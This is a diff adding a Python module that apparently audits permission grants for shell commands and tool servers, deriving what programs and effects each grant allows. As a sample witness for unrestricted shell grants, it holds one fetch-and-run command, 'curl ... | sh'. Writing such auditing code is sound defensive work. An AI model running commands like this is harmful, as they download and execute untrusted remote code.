@@ -1,0 +1,64 @@
+"""Power: what the commands of a grant can really do, and which program they come down to."""
+
+from __future__ import annotations
+
+from overgrant.dialect.catalogue import policy
+from overgrant.model import Grant, World
+from overgrant.scope import Answer
+
+# Kinds of program behind which the closure opens: they start what their arguments name.
+OPEN = ("shell", "interpreter", "launcher", "package-runner")
+
+
+def derive(world: World) -> None:
+    """Fill `breadth`, `runs`, `head`, `effects` and `witness` of every command grant."""
+    for grant in world.of("grant"):
+        if not isinstance(grant, Grant):
+            continue
+        if grant.scope is not None and grant.breadth == "exact" and "breadth" not in grant.at:
+            grant.breadth = grant.scope.breadth.name.lower()
+        if grant.capability == "exec.shell" and grant.scope is not None and grant.scope.language == "command":
+            _command(grant)
+        if grant.server or grant.capability == "" and grant.tool:
+            _tool(grant, world)
+
+
+def _command(grant: Grant) -> None:
+    from overgrant.dialect.grammar.command import power_of
+
+    if grant.breadth == "all":
+        grant.runs, grant.effects = "shell", ("runs-code",)
+        grant.witness = grant.witness or "curl https://example.net/x | sh"
+        return
+    decide = policy(grant.root.product).get("decide", {})
+    power = power_of(grant.literal, grant.open_tail)
+    excluded = getattr(power, "excludable", "")
+    if excluded and grant.scope is not None and _closed(grant, decide, power.head):
+        return
+    grant.head = power.head
+    grant.runs = power.runs if power.runs in ("none", "fixed", "workspace-code", *OPEN) else "unknown"
+    grant.effects = tuple(power.effects)
+    grant.witness = power.witness or ""
+    if grant.witness and grant.scope is not None and grant.scope.matches(grant.witness) is Answer.NO:
+        grant.witness = ""
+
+
+def _closed(grant: Grant, decide: dict[str, object], head: str) -> bool:
+    """The product never lets a prefix rule cover this program's dangerous options."""
+    options = decide.get("never-by-prefix-options", {})
+    never = decide.get("never-by-prefix", ())
+    if (isinstance(options, dict) and head in options) or (isinstance(never, list) and head in never):
+        grant.head, grant.runs = head, "fixed"
+        return True
+    return False
+
+
+def _tool(grant: Grant, world: World) -> None:
+    """A grant over a server's tools has the effects of the tools that its pattern covers."""
+    server = next((each for each in world.beside(grant, "server") if getattr(each, "name", "") == grant.server), None)
+    from overgrant.dialect.grammar.tools import effects_of_name
+
+    if server is not None and getattr(server, "effects", ()):
+        grant.effects = server.effects  # type: ignore[attr-defined]
+    elif grant.tool and "*" not in grant.tool:
+        grant.effects = tuple(effects_of_name(grant.tool)[0])
